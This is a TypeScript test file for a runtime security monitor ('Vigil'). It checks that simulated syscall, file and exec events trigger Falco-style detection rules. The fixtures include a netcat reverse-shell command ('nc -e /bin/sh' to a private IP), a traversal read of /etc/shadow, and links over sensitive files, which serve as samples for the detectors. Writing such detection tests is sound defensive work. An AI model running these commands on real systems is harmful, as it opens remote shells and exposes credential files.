// The live pipeline's pure parts: which sensors the stable rules need, the
// syscall-event record decoder, and the adapters from Vigil's events to
// RuleEvents (fields as Falco fills them), checked through the stable rules.
// No kernel: a fake process lookup stands for the cache.
import { test, describe } from 'node:test';
import assert from 'node:assert/strict';
import { LiveAdapter, normalizePath, planLive } from '../src/rules/live.js';
import { ptraceRequestName, socketFamilyName, ttyNumber } from '../src/rules/live-args.js';
import { RuleEngine } from '../src/rules/engine.js';
import { decodeSysRecord, sunPathText } from '../src/sensors/sysevents.js';
import type { SysEvent } from '../src/sensors/sysevent-events.js';
import type { FileEvent } from '../src/sensors/file-events.js';
import type { ExecEvent } from '../src/sensors/events.js';
import type { ProcessInfo, ProcessLookup } from '../src/process/types.js';
import { vigilSysEvent, VIGIL_SYS_EVENT, VIGIL_SYS_CONNECT, VIGIL_SYS_HAS_FILE, VIGIL_SYS_HAS_SOCK, VIGIL_SYS_HAS_ADDR } from '../src/generated/sysevents.js';
import { BootClock } from '../src/util/clock.js';
import { falcoRulesPath, testFields } from './rules-helpers.js';

const START = 1_000_000_000_000n;
const EPOCH = 1_767_225_600_000_000_000n;
const CID = 'ab'.repeat(32);

function info(p: Partial<ProcessInfo> & { pid: number; comm: string }): ProcessInfo {
  return {
    execId: `id-${p.pid}`, tid: p.pid, ppid: 1, parentExecId: undefined, parentStartBootNs: undefined,
    uid: 0, gid: 0, euid: 0, egid: 0, auid: 4294967295, binary: `/usr/bin/${p.comm}`, args: [p.comm], cwd: '/root',
    tty: undefined, startBootNs: START, startTimeNs: EPOCH, execBootNs: START, caps: { effective: 0x1ffffffffffn, permitted: 0x1ffffffffffn, inheritable: 0n },
    ns: undefined, cgroupId: 1n, cgroupPath: '/', container: 'host', source: 'exec',
    flags: { binaryTruncated: false, argsTruncated: false, cwdTruncated: false, binaryError: false, argsError: false, cwdError: false },
    exit: undefined, replaced: false, ...p,
  };
}

class FakeLookup implements ProcessLookup {
  readonly procs = new Map<number, ProcessInfo>();
  add(i: ProcessInfo): ProcessInfo {
    this.procs.set(i.pid, i);
    return i;
  }
  get(pid: number): ProcessInfo | undefined {
    return this.procs.get(pid);
  }
  getByExecId(): ProcessInfo | undefined {
    return undefined;
  }
  parentOf(i: ProcessInfo): ProcessInfo | undefined {
    return this.procs.get(i.ppid);
  }
  ancestors(i: ProcessInfo): ProcessInfo[] {
    const out: ProcessInfo[] = [];
    for (let p = this.parentOf(i); p && out.length < 64; p = this.parentOf(p)) out.push(p);
    return out;
  }
}

function world(): { lookup: FakeLookup; adapter: LiveAdapter } {
  const lookup = new FakeLookup();
  lookup.add(info({ pid: 1, comm: 'systemd', binary: '/usr/lib/systemd/systemd', ppid: 0 }));
  lookup.add(info({ pid: 100, comm: 'containerd-shim', ppid: 1 }));
  lookup.add(info({ pid: 200, comm: 'bash', ppid: 100, tty: 'pts/3', container: { id: CID, runtime: 'docker' } }));
  lookup.add(info({ pid: 300, comm: 'nc', ppid: 200, args: ['nc', '-e', '/bin/sh', '10.1.2.3', '4444'], container: { id: CID, runtime: 'docker' } }));
  lookup.add(info({ pid: 400, comm: 'cat', ppid: 1, args: ['cat', '../../etc/shadow'] }));
  return { lookup, adapter: new LiveAdapter(lookup) };
}

function sysEvent(p: Partial<SysEvent> & { call: SysEvent['call'] }, pid: number): SysEvent {
  return {
    kind: 'sys', timeNs: EPOCH + 5_000_000_000n, bootNs: START + 5_000_000_000n, args: [0, 0, 0, 0, 0, 0], ret: 0,
    file: undefined, addr: undefined, str: null, strTruncated: false, raw: false,
    task: { pid, tid: pid, uid: 0, gid: 0, euid: 0, egid: 0, comm: 'x', startBootNs: START, cgroupId: 1n, capEffective: 0x1ffffffffffn },
    ...p,
  };
}

function fileEvent(p: Partial<FileEvent> & { syscall: FileEvent['syscall']; op: FileEvent['op']; path: string }, pid: number): FileEvent {
  return {
    kind: 'file', timeNs: EPOCH + 1n, bootNs: START + 1n, target: null, rawTarget: null, dev: null, ino: null,
    flags: ['O_RDONLY'], rawFlags: 0n, mode: null, ownerUid: null, ownerGid: null, length: null, ret: 3,
    task: { pid, tid: pid, uid: 0, gid: 0, comm: 'x', startBootNs: START, cgroupId: 1n },
    eventFlags: { pathTruncated: false, targetTruncated: false, pathError: false, targetError: false, pathOpened: false },
    rawPath: p.path,
    ...p,
  };
}

describe('planLive', () => {
  test('the stable rules need exec, opens, links, and ten syscall events', () => {
    const engine = RuleEngine.load([falcoRulesPath('falco_rules.yaml')], { fields: testFields() });
    const plan = planLive(engine.interestingEventTypes());
    assert.equal(plan.execve, true);
    assert.equal(plan.execveat, true);
    assert.equal(plan.procexit, false);
    assert.deepEqual(plan.fileSyscalls, ['open', 'openat', 'openat2', 'link', 'linkat', 'symlink', 'symlinkat']);
    assert.deepEqual(plan.sysCalls, ['connect', 'socket', 'sendto', 'sendmsg', 'dup', 'dup2', 'dup3', 'ptrace', 'init_module', 'finit_module']);
    assert.deepEqual(plan.unsupported, []);
  });
  test('a rule for every type asks for every sensed type; unknown types are reported', () => {
    const all = planLive({ all: true, types: [], except: ['sendto'] });
    assert.ok(all.fileSyscalls.includes('unlinkat') && all.sysCalls.includes('memfd_create') && all.procexit);
    assert.ok(!all.sysCalls.includes('sendto'));
    assert.deepEqual(planLive({ all: false, types: ['openat', 'mount', 'kill'], except: [] }).unsupported, ['kill', 'mount']);
  });
});

describe('decodeSysRecord', () => {
  test('a connect record: the socket ends, the caller\'s sockaddr, the task', () => {
    const buf = Buffer.alloc(vigilSysEvent.size + 8);
    const view = new DataView(buf.buffer, buf.byteOffset, buf.byteLength);
    const addr = (a: number[]) => Uint8Array.from([...a, ...new Array<number>(16 - a.length).fill(0)]);
    vigilSysEvent.encode({
      kind: VIGIL_SYS_EVENT, call: VIGIL_SYS_CONNECT, status: VIGIL_SYS_HAS_FILE | VIGIL_SYS_HAS_SOCK | VIGIL_SYS_HAS_ADDR,
      ktime: 5n, start_boottime: START, cgroup_id: 7n, cap_effective: 1n << 21n, ret: -115n, args: [4n, 0x7ffe0000n, 16n, 0n, 0n, 0n],
      ino: 1234n, dev: 9, i_mode: 0o140777, pid: 42, tid: 43, uid: 1000, gid: 1000, euid: 0, egid: 0, nr: 42, fd: 4,
      sk_family: 2, sk_type: 1, sk_protocol: 6, sk_state: 2, sk_lport: 40000, sk_rport: 443,
      sk_laddr: addr([10, 0, 0, 2]), sk_raddr: addr([198, 18, 0, 1]),
      ua_family: 2, ua_port: 443, ua_len: 16, ua_addr: addr([198, 18, 0, 1]), path_len: 0, str_len: 0, comm: 'ssh',
    }, view, 0);
    const clock = BootClock.measure();
    const e = decodeSysRecord(view, 0, vigilSysEvent.size, clock);
    assert.equal(e.call, 'connect');
    assert.equal(e.ret, -115);
    assert.deepEqual(e.args, [4, 0x7ffe0000, 16, 0, 0, 0]);
    assert.equal(e.file?.fd, 4);
    assert.deepEqual(e.file?.socket, { family: 2, type: 1, protocol: 6, state: 2, local: { ip: '10.0.0.2', port: 40000 }, remote: { ip: '198.18.0.1', port: 443 } });
    assert.deepEqual(e.addr, { family: 2, ip: '198.18.0.1', port: 443 });
    assert.deepEqual({ ...e.task }, { pid: 42, tid: 43, uid: 1000, gid: 1000, euid: 0, egid: 0, comm: 'ssh', startBootNs: START, cgroupId: 7n, capEffective: 1n << 21n });
    assert.equal(e.timeNs, clock.toEpochNs(5n));
    assert.throws(() => decodeSysRecord(view, 0, vigilSysEvent.size - 1, clock), RangeError);
  });
  test('unix socket paths: abstract names as @name', () => {
    assert.equal(sunPathText(Buffer.from('/run/x.sock\0\0\0')), '/run/x.sock');
    assert.equal(sunPathText(Buffer.from('\0abstract\0\0')), '@abstract');
  });
});

describe('argument renderings', () => {
  test('ptrace requests, socket families, tty numbers', () => {
    assert.equal(ptraceRequestName(16), 'PTRACE_ATTACH');
    assert.equal(ptraceRequestName(0), 'PTRACE_TRACEME');
    assert.equal(ptraceRequestName(0x4206), 'PTRACE_SEIZE');
    assert.equal(socketFamilyName(17), 'AF_PACKET');
    assert.equal(ttyNumber('pts/0'), 34816);
    assert.equal(ttyNumber('pts/3'), 34819);
    assert.equal(ttyNumber('tty1'), 1025);
    assert.equal(ttyNumber('ttyS0'), 1088);
    assert.equal(ttyNumber('tty(4:70)'), ttyNumber('ttyS6'));
  });
  test('fd.name normalises "." and ".." ; fd.nameraw keeps them', () => {
    assert.equal(normalizePath('/etc/../etc/../etc/shadow'), '/etc/shadow');
    assert.equal(normalizePath('/tmp/./a//b'), '/tmp/a/b');
    assert.equal(normalizePath('/usr/bin/cat'), '/usr/bin/cat');
    assert.equal(normalizePath('.../leaf/x'), '.../leaf/x');
  });
});

describe('LiveAdapter through the stable rules', () => {
  const engine = RuleEngine.load([falcoRulesPath('falco_rules.yaml')], { fields: testFields(), ruleMatching: 'all', hostname: 'vigil-test' });
  const rulesOf = (ev: Parameters<typeof engine.evaluate>[0]) => engine.evaluate(ev).map((a) => a.rule);

  test('an open through "..": fd.name normalised, nameraw as given, proc fields from the cache', () => {
    const { adapter } = world();
    const ev = adapter.fromFile(fileEvent({ syscall: 'openat', op: 'open', path: '/root/../etc/../etc/shadow' }, 400));
    assert.equal(ev.type, 'openat');
    assert.deepEqual(ev.fd, { num: 3, type: 'file', name: '/etc/shadow', nameRaw: '/root/../etc/../etc/shadow' });
    assert.equal(ev.process?.name, 'cat');
    assert.equal(ev.process?.parent?.name, 'systemd');
    assert.deepEqual(rulesOf(ev).sort(), ['Directory traversal monitored file read', 'Read sensitive file untrusted']);
  });

  test('a failed open: fd.num -1, open_file_failed', () => {
    const { adapter } = world();
    const ev = adapter.fromFile(fileEvent({ syscall: 'openat', op: 'open', path: '/etc/../etc/../etc/shadow', ret: -13 }, 400));
    assert.equal(ev.fd?.num, -1);
    assert.deepEqual(rulesOf(ev), ['Directory traversal monitored file read']);
  });

  test('an O_DIRECTORY open is a directory (typechar d): no file rule', () => {
    const { adapter } = world();
    const ev = adapter.fromFile(fileEvent({ syscall: 'openat', op: 'open', path: '/etc/shadow', flags: ['O_RDONLY', 'O_DIRECTORY'] }, 400));
    assert.equal(ev.fd?.type, 'directory');
    assert.deepEqual(rulesOf(ev), []);
  });

  test('dup2 of a TCP socket onto stdout in a container: Redirect STDOUT/STDIN', () => {
    const { adapter } = world();
    const ev = adapter.fromSys(sysEvent({
      call: 'dup2', args: [3, 1, 0, 0, 0, 0], ret: 1,
      file: { fd: 3, ino: 55, dev: 9, mode: 0o140777, path: undefined, pathTruncated: false,
        socket: { family: 2, type: 1, protocol: 6, state: 1, local: { ip: '172.17.0.2', port: 51000 }, remote: { ip: '10.1.2.3', port: 4444 } } },
    }, 300));
    assert.equal(ev.container?.id, CID);
    assert.equal(ev.fd?.type, 'ipv4');
    assert.equal(ev.fd?.l4proto, 'tcp');
    const alerts = engine.evaluate(ev);
    assert.deepEqual(alerts.map((a) => a.rule), ['Redirect STDOUT/STDIN to Network Connection in Container']);
    assert.equal(alerts[0]!.outputFields['fd.name'], '172.17.0.2:51000->10.1.2.3:4444');
    assert.equal(alerts[0]!.outputFields['fd.sip'], '10.1.2.3');
    assert.equal(alerts[0]!.outputFields['proc.aname[2]'], 'containerd-shim');
    assert.equal(alerts[0]!.outputFields['proc.tty'], 0);
  });

  test('dup of a pipe: fd.type pipe, named pipe:[ino]', () => {
    const { adapter } = world();
    const ev = adapter.fromSys(sysEvent({
      call: 'dup', args: [5, 0, 0, 0, 0, 0], ret: 6,
      file: { fd: 5, ino: 777, dev: 14, mode: 0o010600, path: '/', pathTruncated: false, socket: undefined },
    }, 200));
    assert.deepEqual({ type: ev.fd?.type, name: ev.fd?.name, num: ev.fd?.num }, { type: 'pipe', name: 'pipe:[777]', num: 5 });
  });

  test('connect from an ssh client to a public :443: outbound, Disallowed SSH Connection Non Standard Port', () => {
    const { lookup, adapter } = world();
    lookup.add(info({ pid: 500, comm: 'ssh', ppid: 200, args: ['/usr/bin/ssh', '-p', '443', 'example.com'] }));
    const ev = adapter.fromSys(sysEvent({
      call: 'connect', args: [3, 0, 16, 0, 0, 0], ret: -115,
      file: { fd: 3, ino: 56, dev: 9, mode: 0o140777, path: undefined, pathTruncated: false,
        socket: { family: 2, type: 1, protocol: 6, state: 2, local: { ip: '192.0.2.10', port: 40000 }, remote: { ip: '198.18.0.1', port: 443 } } },
      addr: { family: 2, ip: '198.18.0.1', port: 443 },
    }, 500));
    assert.equal(ev.res, -115);
    assert.deepEqual(rulesOf(ev), ['Disallowed SSH Connection Non Standard Port']);
    // the same to a private address is not outbound
    const priv = adapter.fromSys(sysEvent({
      call: 'connect', args: [3, 0, 16, 0, 0, 0], ret: 0,
      file: { fd: 3, ino: 56, dev: 9, mode: 0o140777, path: undefined, pathTruncated: false,
        socket: { family: 2, type: 1, protocol: 6, state: 1, local: { ip: '10.0.0.2', port: 40000 }, remote: { ip: '10.0.0.9', port: 443 } } },
    }, 500));
    assert.deepEqual(rulesOf(priv), []);
  });

  test('a failed connect: the remote end from the sockaddr the caller passed', () => {
    const { adapter } = world();
    const ev = adapter.fromSys(sysEvent({
      call: 'connect', args: [3, 0, 16, 0, 0, 0], ret: -111,
      file: { fd: 3, ino: 56, dev: 9, mode: 0o140777, path: undefined, pathTruncated: false,
        socket: { family: 2, type: 1, protocol: 6, state: 7, local: { ip: '0.0.0.0', port: 0 }, remote: { ip: '0.0.0.0', port: 0 } } },
      addr: { family: 2, ip: '203.0.113.5', port: 22 },
    }, 200));
    assert.equal(ev.fd?.remote?.ip, '203.0.113.5');
    assert.equal(ev.fd?.remote?.port, 22);
  });

  test('UDP sendto: fd.name_changed when the peer changes, fd.connected false', () => {
    const { adapter } = world();
    const send = (ip: string) => adapter.fromSys(sysEvent({
      call: 'sendto', args: [7, 0, 40, 0, 1, 16], ret: 40,
      file: { fd: 7, ino: 57, dev: 9, mode: 0o140777, path: undefined, pathTruncated: false,
        socket: { family: 2, type: 2, protocol: 17, state: 7, local: { ip: '0.0.0.0', port: 5353 }, remote: { ip: '0.0.0.0', port: 0 } } },
      addr: { family: 2, ip, port: 53 },
    }, 200));
    const a = send('203.0.113.1');
    const b = send('203.0.113.1');
    const c = send('203.0.113.2');
    assert.deepEqual([a.fd?.nameChanged, b.fd?.nameChanged, c.fd?.nameChanged], [true, false, true]);
    assert.equal(a.fd?.connected, false);
    assert.equal(a.fd?.l4proto, 'udp');
    assert.equal(a.fd?.remote?.ip, '203.0.113.1');
  });

  test('ptrace: the request by name; thread.cap_effective from the call', () => {
    const { adapter } = world();
    const ev = adapter.fromSys(sysEvent({ call: 'ptrace', args: [16, 1234, 0, 0, 0, 0], ret: 0 }, 400));
    assert.equal(ev.args?.request, 'PTRACE_ATTACH');
    assert.deepEqual(rulesOf(ev), ['PTRACE attached to process']);
  });

  test('init_module in a container with CAP_SYS_MODULE; not on the host', () => {
    const { adapter } = world();
    const inContainer = adapter.fromSys(sysEvent({ call: 'init_module', args: [0, 64, 0, 0, 0, 0], ret: -38, str: '' }, 300));
    assert.deepEqual(rulesOf(inContainer), ['Linux Kernel Module Injection Detected']);
    const host = adapter.fromSys(sysEvent({ call: 'init_module', args: [0, 64, 0, 0, 0, 0], ret: -38, str: '' }, 400));
    assert.deepEqual(rulesOf(host), []);
    const noCap = adapter.fromSys(sysEvent({ call: 'init_module', args: [0, 64, 0, 0, 0, 0], ret: -1 }, 300));
    (noCap.process as { capEffective?: bigint }).capEffective = 0n;
    assert.deepEqual(rulesOf(noCap), []);
  });

  test('memfd_create: fd memfd:<name>', () => {
    const { adapter } = world();
    const ev = adapter.fromSys(sysEvent({ call: 'memfd_create', args: [0, 1, 0, 0, 0, 0], ret: 4, str: 'payload' }, 400));
    assert.deepEqual({ num: ev.fd?.num, type: ev.fd?.type, name: ev.fd?.name }, { num: 4, type: 'memfd', name: 'memfd:payload' });
    assert.deepEqual(ev.args?.flags, ['MFD_CLOEXEC']);
  });

  test('exec: execve or execveat, exe_flags, proc.exe = argv[0], tty as a number', () => {
    const { lookup, adapter } = world();
    const nc = lookup.get(300)!;
    const e: ExecEvent = { kind: 'exec', timeNs: EPOCH, timeBootNs: START, process: nc, parent: lookup.get(200) };
    const ev = adapter.fromExec(e);
    assert.equal(ev.type, 'execve');
    assert.equal(ev.process?.exe, 'nc');
    assert.deepEqual(ev.process?.args, ['-e', '/bin/sh', '10.1.2.3', '4444']);
    assert.equal(ev.process?.parent?.tty, 34819);
    assert.deepEqual(rulesOf(ev), ['Netcat Remote Code Execution in Container']);
    const memfd = lookup.add(info({ pid: 600, comm: '3', ppid: 400, binary: '/memfd:x', args: ['x'] }));
    const ev2 = adapter.fromExec({ kind: 'exec', timeNs: EPOCH, timeBootNs: START, process: memfd, parent: undefined }, true);
    assert.equal(ev2.type, 'execveat');
    assert.deepEqual(ev2.args?.flags, ['EXE_FROM_MEMFD']);
    assert.deepEqual(rulesOf(ev2), ['Fileless execution via memfd_create']);
  });

  test('symlink and link: evt.arg.target / oldpath', () => {
    const { adapter } = world();
    const s = adapter.fromFile(fileEvent({ syscall: 'symlinkat', op: 'symlink', path: '/tmp/x', target: '/etc', ret: 0 }, 400));
    assert.deepEqual(rulesOf(s), ['Create Symlink Over Sensitive Files']);
    const l = adapter.fromFile(fileEvent({ syscall: 'linkat', op: 'link', path: '/tmp/y', target: '/etc/shadow', ret: 0, flags: [] }, 400));
    assert.deepEqual(rulesOf(l), ['Create Hardlink Over Sensitive Files']);
  });

  test('fs.path.*: canonical and raw names of successful path syscalls, Falco\'s source and target', () => {
    const { adapter } = world();
    const fields = testFields();
    const fs = (ev: ReturnType<typeof adapter.fromFile>) => Object.fromEntries(
      ['name', 'nameraw', 'source', 'sourceraw', 'target', 'targetraw'].map((k) => {
        const f = fields.resolve(`fs.path.${k}`, undefined);
        return [k, f.many ? undefined : f.extract(ev)];
      }).filter(([, v]) => v !== undefined));
    assert.deepEqual(fs(adapter.fromFile(fileEvent({ syscall: 'openat', op: 'open', path: '/etc/shadow', rawPath: '../etc/shadow',
      dev: 2049, ino: 77, eventFlags: { pathTruncated: false, targetTruncated: false, pathError: false, targetError: false, pathOpened: true },
    }, 400))), { name: '/etc/shadow', nameraw: '../etc/shadow' });
    assert.deepEqual(fs(adapter.fromFile(fileEvent({ syscall: 'openat', op: 'open', path: '/etc/nope', ret: -2 }, 400))), {},
      'a failed call has none');
    assert.deepEqual(fs(adapter.fromFile(fileEvent({ syscall: 'unlinkat', op: 'unlink', path: '/tmp/x', rawPath: 'x', ret: 0 }, 400))),
      { name: '/tmp/x', nameraw: 'x' });
    assert.deepEqual(fs(adapter.fromFile(fileEvent({ syscall: 'renameat2', op: 'rename', path: '/a/x', rawPath: 'x', target: '/b/y',
      rawTarget: '../b/y', ret: 0 }, 400))), { source: '/a/x', sourceraw: 'x', target: '/b/y', targetraw: '../b/y' });
    // link: the new name is the source, the existing file the target (as Falco has it).
    assert.deepEqual(fs(adapter.fromFile(fileEvent({ syscall: 'linkat', op: 'link', path: '/tmp/y', target: '/etc/shadow',
      rawTarget: '/etc//shadow', ret: 0 }, 400))), { source: '/tmp/y', sourceraw: '/tmp/y', target: '/etc/shadow', targetraw: '/etc//shadow' });
    assert.deepEqual(fs(adapter.fromFile(fileEvent({ syscall: 'truncate', op: 'truncate', path: '/tmp/x', ret: 0 }, 400))), {},
      'Falco has no fs.path for truncate');
    const opened = adapter.fromFile(fileEvent({ syscall: 'openat', op: 'open', path: '/etc/shadow', dev: 66307, ino: 77 }, 400));
    assert.deepEqual([opened.fd?.dev, opened.fd?.ino], [66307, 77]);
    const major = fields.resolve('fd.dev.major', undefined);
    const minor = fields.resolve('fd.dev.minor', undefined);
    assert.ok(!major.many && !minor.many);
    assert.deepEqual([major.extract(opened), minor.extract(opened)], [259, 3]);
  });

  test('a process the cache does not know: what the record said', () => {
    const { adapter } = world();
    const ev = adapter.fromSys(sysEvent({ call: 'ptrace', args: [0, 0, 0, 0, 0, 0], task: {
      pid: 9999, tid: 9999, uid: 1, gid: 1, euid: 1, egid: 1, comm: 'ghost', startBootNs: START, cgroupId: 1n, capEffective: 0n,
    } }, 9999));
    assert.equal(ev.process?.name, 'ghost');
    assert.deepEqual(rulesOf(ev), ['PTRACE anti-debug attempt']);
  });
});
